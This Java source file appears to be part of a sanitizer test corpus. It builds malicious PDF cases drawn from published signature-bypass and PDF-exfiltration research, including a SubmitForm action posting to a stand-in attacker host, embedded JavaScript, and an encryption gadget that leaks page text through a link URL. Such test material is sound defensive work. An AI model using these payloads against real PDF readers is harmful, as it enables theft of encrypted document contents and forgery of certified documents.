package jp.kiyome.testcorpus.pdf;

import java.util.List;

/**
 * Signatures that are made to say yes to something else (Mainka, Mladenov, Rohlmann: Breaking the Specification, S&P 2021), and encryption
 * that gives away what it hides (Mueller and others: Practical Decryption exFiltration, CCS 2019).
 */
final class PdfSignatures {

    private static final String SIGNATURE =
            "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 9 9 9]/Contents<00>/Name(evilmark)"
                    + "/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams<</Type/TransformParams/P 2/V/1.2>>>>]>>";
    private static final String SUBMIT = "/OpenAction<</S/SubmitForm/F(http://evil.example.invalid/)/Flags 256>>";
    private static final String PLAIN = "/Filter[/Crypt]/DecodeParms[<</Name/Identity>>]";

    private PdfSignatures() {}

    static List<PdfCase> all() {
        return List.of(
                certified("permissions", page()),
                certified(
                        "annotation",
                        page().add(3, "/Annots[9 0 R]")
                                .object(
                                        9,
                                        "<</Type/Annot/Subtype/Screen/Rect[72 690 200 730]/T(evilmark)/A<</S/Rendition/OP 0/JS(evilmark)>>>>")),
                certified("usage-rights", page().add(1, "/Extensions<<>>")),
                PdfCase.of("encrypted-streams-alone", () -> page().add(1, SUBMIT)
                                .partlyEncrypted(new MixedEncryption(false)))
                        .loses("evil.example.invalid"),
                PdfCase.of("encrypted-but-for-a-stream", () -> page()
                                .add(1, "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 9 0 R>>]>>>>")
                                .stream(4, PLAIN, PdfBuilder.SHOWN)
                                .stream(9, PLAIN, "evilmark")
                                .partlyEncrypted(new MixedEncryption(true)))
                        .loses("evilmark"),
                PdfCase.of("encrypted-gadget", PdfSignatures::gadget));
    }

    private static PdfCase certified(String name, PdfBuilder page) {
        String key = name.equals("usage-rights") ? "UR3" : "DocMDP";
        return PdfCase.of("certified-" + name, () -> page.copy()
                        .add(1, "/AcroForm<</Fields[6 0 R]/SigFlags 3>>/Perms<</" + key + " 7 0 R>>")
                        .object(6, "<</FT/Sig/T(name)/V 7 0 R>>")
                        .object(7, SIGNATURE)
                        .plain())
                .loses("evilmark");
    }

    private static PdfBuilder page() {
        return PdfBuilder.onePage();
    }

    private static byte[] gadget() {
        MixedEncryption encryption = new MixedEncryption(true);
        String address = encryption.gadget(9, "known first part", "the secret of the page", "http://e.invalid");
        return page().add(3, "/Annots[9 0 R]")
                .object(9, "<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/AA<</E<</S/URI/URI " + address + ">>>>>>")
                .partlyEncrypted(encryption);
    }
}
